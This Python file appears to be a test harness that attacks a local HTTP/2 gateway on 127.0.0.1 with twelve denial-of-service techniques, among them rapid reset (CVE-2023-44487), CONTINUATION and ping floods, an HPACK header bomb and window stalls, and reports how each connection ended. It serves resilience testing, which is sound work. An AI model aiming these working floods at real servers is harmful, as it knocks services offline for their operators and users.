"""Hostile HTTP/2 clients. As a program: `attacks.py NAME PORT SECONDS PAUSE` attacks 127.0.0.1:PORT by one connection at a time, a new
one so long after the last has ended, and then says as JSON how many there were, how much was sent, and with which codes they ended."""

import collections
import json
import select
import socket
import struct
import sys
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
# How much is sent of one connection at most: the gateway is to have ended it long before.
MOST = 64 << 20
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 3: "FLOW_CONTROL_ERROR", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
         9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def text(value):
    """A string literal of HPACK, shorter than 127 bytes or by the long form, without Huffman coding."""
    if len(value) < 127:
        return bytes([len(value)]) + value
    rest, out = len(value) - 127, bytearray([127])
    while rest >= 128:
        out.append(rest % 128 + 128)
        rest //= 128
    return bytes([*out, rest]) + value


# http, /, test; the method before it.
TARGET = b"\x86\x84\x01" + text(b"test")
GET, POST = b"\x82" + TARGET, b"\x83" + TARGET


def streams():
    return range(1, 1 << 31, 2)


def repeated(*first, one):
    """The first frames, then one again and again."""
    yield from first
    many = one * (65_536 // len(one))
    while True:
        yield many


def by_stream(one):
    """What `one` gives for each stream, forever."""
    batch = bytearray()
    for stream in streams():
        batch += one(stream)
        if len(batch) > 32_768:
            yield bytes(batch)
            batch.clear()


def open_post():
    return frame(HEADERS, END_HEADERS, 1, POST)


def ping():
    return repeated(one=frame(PING, 0, 0, bytes(8)))


def settings():
    return repeated(one=frame(SETTINGS, 0, 0))


def window_updates():
    return repeated(one=frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))


def priorities():
    return repeated(one=frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1)))


def unknown_frames():
    return repeated(one=frame(0xFA, 0, 0, bytes(8)))


def empty_data():
    return repeated(open_post(), one=frame(DATA, 0, 1))


def tiny_data():
    """A body in frames of one byte."""
    return repeated(open_post(), one=frame(DATA, 0, 1, b"x"))


def rapid_reset():
    """Requests that are given up at once (CVE-2023-44487)."""
    cancel = struct.pack(">I", 8)
    return by_stream(lambda stream: frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) + frame(RST_STREAM, 0, stream, cancel))


def too_many_streams():
    """Requests without an end, far more than there may be."""
    return by_stream(lambda stream: frame(HEADERS, END_HEADERS, stream, POST))


def continuation():
    """A head without an end, in frames that carry nothing."""
    return repeated(frame(HEADERS, END_STREAM, 1, GET), one=frame(CONTINUATION, 0, 1))


def header_bomb():
    """A large field is put into the table once, and named some thousand times by each request."""
    large = b"\x40" + text(b"x") + text(b"y" * 4_000)
    first = frame(HEADERS, END_HEADERS | END_STREAM, 1, GET + large)
    # 62 is the newest field of the table.
    bomb = GET + b"\xbe" * 16_000

    def attack():
        yield first
        for stream in range(3, 1 << 31, 2):
            yield frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)

    return attack()


def window_stall():
    """Answers for which there is no window, and frames that open it by one byte."""
    yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
    yield b"".join(frame(HEADERS, END_HEADERS | END_STREAM, 2 * number + 1, GET) for number in range(100))
    one = struct.pack(">I", 1)
    drips = b"".join(frame(WINDOW_UPDATE, 0, 2 * number + 1, one) for number in range(100))
    while True:
        yield drips


ALL = {function.__name__: function for function in [
    ping, settings, window_updates, priorities, unknown_frames, empty_data, tiny_data, rapid_reset, too_many_streams,
    continuation, header_bomb, window_stall]}


class Reader:
    """Finds the frames in what comes."""

    def __init__(self):
        self.bytes = bytearray()
        self.code = None

    def take(self, data):
        self.bytes += data
        while len(self.bytes) >= 9:
            length = int.from_bytes(self.bytes[:3])
            if len(self.bytes) < 9 + length:
                return
            if self.bytes[3] == GOAWAY and length >= 8:
                code = int.from_bytes(self.bytes[13:17])
                # The first of two steps of a drain says nothing is wrong.
                self.code = CODES.get(code, str(code))
            del self.bytes[:9 + length]


def attack(name, port, until):
    """One connection: how much was sent, and how it ended."""
    reader, sent = Reader(), 0
    with socket.create_connection(("127.0.0.1", port)) as connection:
        connection.setblocking(False)
        pieces = ALL[name]()
        left = memoryview(PREFACE + frame(SETTINGS, 0, 0))
        try:
            while time.monotonic() < until and sent < MOST:
                wants = [connection] if left else []
                readable, writable, _ = select.select([connection], wants, [], 0.1)
                if readable:
                    data = connection.recv(262_144)
                    if not data:
                        return sent, reader.code or "closed"
                    reader.take(data)
                    if reader.code:
                        return sent, reader.code
                if writable:
                    count = connection.send(left)
                    sent += count
                    left = left[count:] or memoryview(next(pieces))
        except OSError:
            return sent, reader.code or "reset"
    return sent, "goes on"


def main():
    name, port, seconds, pause = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), float(sys.argv[4])
    until = time.monotonic() + seconds
    count, sent, ends = 0, 0, collections.Counter()
    while time.monotonic() < until:
        try:
            length, end = attack(name, port, until)
        except OSError:
            time.sleep(0.01)
            continue
        count, sent = count + 1, sent + length
        ends[end] += 1
        time.sleep(max(0.0, min(pause, until - time.monotonic())))
    print(json.dumps({"connections": count, "bytes": sent, "ends": dict(ends)}))


if __name__ == "__main__":
    main()
